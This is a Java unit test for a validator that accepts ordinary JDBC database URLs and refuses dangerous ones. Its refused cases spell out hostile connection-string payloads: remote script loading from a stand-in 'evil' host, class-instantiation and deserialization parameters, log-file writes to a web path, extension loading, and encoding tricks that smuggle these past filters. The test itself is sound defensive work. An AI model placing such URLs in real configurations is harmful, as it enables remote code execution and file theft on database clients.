package org.riskassessment.core.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.riskassessment.core.error.ErrorCode;
import org.riskassessment.core.error.RiskException;

/** Which URLs of databases are accepted. */
class JdbcUrlTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql:crm",
        "jdbc:postgresql:/",
        "jdbc:postgresql://db/crm",
        "jdbc:postgresql://db.example.com:5433/my%20crm?sslmode=verify-full&currentSchema=a,b",
        "jdbc:postgresql://[::1]:5432,b:5433/risk?targetServerType=primary&user=me",
        "jdbc:postgresql://db/crm?options=-c%20statement_timeout=90000&sslrootcert=/etc/ca.pem",
        "jdbc:sqlite:/home/me/R&D; #1/100%/crm.db",
        "jdbc:sqlite:C:\\data\\crm.db",
        "jdbc:sqlite:/who?/a=b&c/tab\tline\n/crm.db",
        "jdbc:h2:mem:crm;DB_CLOSE_DELAY=-1;DB_CLOSE_ON_EXIT=FALSE",
        "jdbc:h2:~/crm;IFEXISTS=TRUE;access_mode_data=r",
        "jdbc:h2:file:C:/data/R&D/crm;MODE=PostgreSQL;NON_KEYWORDS=VALUE,USER",
        "jdbc:h2:tcp://db:9092/mem:crm",
        "jdbc:mysql://db:3306/crm?useSSL=true&serverTimezone=Europe/Berlin",
        "jdbc:mariadb://a,b:3307/crm?sslMode=verify-full",
        "jdbc:sqlserver://db\\SQLEXPRESS:1433;databaseName=crm;encrypt=true;"
            + "trustServerCertificate=true",
        "jdbc:oracle:thin:@//db:1521/crm",
        "jdbc:oracle:thin:@db:1521:crm",
        "jdbc:oracle:thin:@tcps://db:2484/crm?retry_count=3",
        "jdbc:duckdb:/data/crm.duckdb;access_mode=READ_ONLY",
      })
  void usual_urls_are_accepted(String url) {
    assertThat(Database.of(url).url()).isEqualTo(url);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://evil/x.sql'|INIT",
        "jdbc:h2:mem:a;init=RUNSCRIPT FROM 'x.sql'|init",
        "jdbc:h2:mem:a;MODE=MySQL;INIT=CREATE ALIAS E AS 'x'|INIT",
        "jdbc:h2:mem:a;MODE=MySQL\\;CREATE ALIAS E AS 'x'|value of the parameter 'MODE'",
        "jdbc:h2:mem:a;LOCK_TIMEOUT=FILE_WRITE('a','b')|value of the parameter 'LOCK_TIMEOUT'",
        "jdbc:h2:mem:a;%49NIT=RUNSCRIPT|%49NIT",
        "jdbc:h2:mem:a;\u0131N\u0131T=RUNSCRIPT|\u0131N\u0131T",
        "jdbc:h2:mem:a; INIT=RUNSCRIPT|~ INIT~",
        "jdbc:h2:mem:a;TRACE_LEVEL_SYSTEM_OUT=3|TRACE_LEVEL_SYSTEM_OUT",
        "jdbc:h2:mem:a;TRACE_LEVEL_FILE=3|TRACE_LEVEL_FILE",
        "jdbc:h2:mem:a;AUTO_SERVER=TRUE|AUTO_SERVER",
        "jdbc:h2:mem:a;DATABASE_EVENT_LISTENER=a.B|DATABASE_EVENT_LISTENER",
        "jdbc:postgresql://h/d?socketFactory=org.springframework.Context|socketFactory",
        "jdbc:postgresql://h/d?ssl=true&socketFactoryArg=http://evil/x.xml|socketFactoryArg",
        "jdbc:postgresql://h/d?sslfactory=a.B|sslfactory",
        "jdbc:postgresql://h/d?sslhostnameverifier=a.B|sslhostnameverifier",
        "jdbc:postgresql://h/d?loggerLevel=TRACE&loggerFile=/srv/x.jsp|loggerLevel",
        "jdbc:postgresql://h/d?LOGGERFILE=/srv/x.jsp|LOGGERFILE",
        "jdbc:postgresql://h/d?authenticationPluginClassName=a.B|authenticationPluginClassName",
        "jdbc:postgresql://h/d?kerberosServerName=a|kerberosServerName",
        "jdbc:postgresql://h/d?service=a|service",
        "jdbc:postgresql:d?xmlFactoryFactory=a.B|xmlFactoryFactory",
        "jdbc:mysql://h/d?allowLoadLocalInfile=true|allowLoadLocalInfile",
        "jdbc:mysql://h/d?allowUrlInLocalInfile=true|allowUrlInLocalInfile",
        "jdbc:mysql://h/d?useSSL=true&autoDeserialize=true|autoDeserialize",
        "jdbc:mysql://h/d?AUTODESERIALIZE=true|AUTODESERIALIZE",
        "jdbc:mysql://h/d?%61utoDeserialize=true|%61utoDeserialize",
        "jdbc:mysql://h/d?useSSL=true;autoDeserialize=true|autoDeserialize",
        "jdbc:mysql://h/d?useSSL=true#&autoDeserialize=true|autoDeserialize",
        "jdbc:mysql://h/d?queryInterceptors=a.B|queryInterceptors",
        "jdbc:mysql://h/d?propertiesTransform=a.B|propertiesTransform",
        "jdbc:mysql://h/d?sessionVariables=a=1|sessionVariables",
        "jdbc:mysql://h/d?useConfigs=a|useConfigs",
        "jdbc:mariadb://h/d?allowLocalInfile=true|allowLocalInfile",
        "jdbc:mariadb://h/d?initSql=DROP|initSql",
        "jdbc:mariadb://h/d?credentialType=a|credentialType",
        "jdbc:sqlserver://h;trustManagerClass=a.B|trustManagerClass",
        "jdbc:sqlserver://h;socketFactoryClass=a.B|socketFactoryClass",
        "jdbc:sqlserver://h;jaasConfigurationName=a|jaasConfigurationName",
        "jdbc:sqlserver://h;databaseName={a};encrypt=true|value of the parameter 'databaseName'",
        "jdbc:oracle:thin:@//h/s?TNS_ADMIN=/tmp|TNS_ADMIN",
        "jdbc:duckdb:a.db;session_init_sql_file=/tmp/x.sql|session_init_sql_file",
        "jdbc:duckdb:a.db;allow_unsigned_extensions=true|allow_unsigned_extensions",
      })
  void other_parameters_are_refused_by_name(String url, String name) {
    refused(url, name.contains(" ") && !name.startsWith(" ") ? name : "parameter '" + name + "'");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:sqlite:a.db?enable_load_extension=true",
        "jdbc:SQLite:a.db?ENABLE_LOAD_EXTENSION=true",
        "jdbc:sqlite:a.db?x=%3f",
        "jdbc:sqlite:file:a.db?vfs=x",
        "jdbc:sqlite::resource:http://evil/x.db",
        "jdbc:h2:nio:a",
        "jdbc:h2:zip:a.zip!/b",
        "jdbc:h2:classpath:a",
        "jdbc:postgresql://me@h/d",
        "jdbc:postgresql://h/d/../e?ssl=true",
        "jdbc:mysql://(host=h,autoDeserialize=true)/d",
        "jdbc:mysql://address=(host=h)(autoDeserialize=true)/d",
        "jdbc:mysql:loadbalance://h/d",
        "jdbc:mysql://h/d ?autoDeserialize=true",
        "jdbc:mysql:// h/d#autoDeserialize=true",
        "jdbc:mysql://h/d%3FautoDeserialize=true",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=h)))",
        "jdbc:oracle:thin:@ldap://evil/x",
        "jdbc:oracle:thin:@config-https://evil/x",
        "jdbc:oracle:oci:@h",
        "jdbc:duckdb:md:a",
        "jdbc:duckdb:s3://evil/x.db",
      })
  void other_ways_to_name_a_database_are_refused(String url) {
    refused(url, "accepted: jdbc:" + url.substring(5, 7).toLowerCase(Locale.ROOT));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:log4jdbc:postgresql://h/d",
        "jdbc:p6spy:mysql://h/d",
        "jdbc:tc:postgresql:15:///d",
        "jdbc:mysql+srv://h/d",
        "jdbc:default:connection",
        "jdbc:derby:memory:a;create=true",
        "jdbc:hive2://h/d",
        "jdbc:db2://h:1/d",
        "JDBC:sqlite:a.db?enable_load_extension=true",
        "jdbc%3Asqlite:a.db",
        "jdbc:",
        "jdbc:h2",
        "risk.db",
        " jdbc:h2:mem:a"
      })
  void other_kinds_of_database_are_refused(String url) {
    refused(url, "is not for a supported kind of database");
  }

  private static void refused(String url, String message) {
    assertThatThrownBy(() -> Database.of(url))
        .isInstanceOfSatisfying(
            RiskException.class, e -> assertThat(e.code()).isEqualTo(ErrorCode.CONFIG_INVALID))
        .hasMessageContaining(message);
  }

  @Test
  void the_refusal_says_what_is_allowed_and_no_value() {
    assertThatThrownBy(() -> Database.of("jdbc:mysql://h/d?useSSL=true&x=hush"))
        .hasMessageContaining("the URL of a database has the parameter 'x', which is not allowed")
        .hasMessageContaining("accepted: jdbc:mysql://HOST/DATABASE, and the parameters user, ")
        .message()
        .doesNotContain("hush");
  }
}
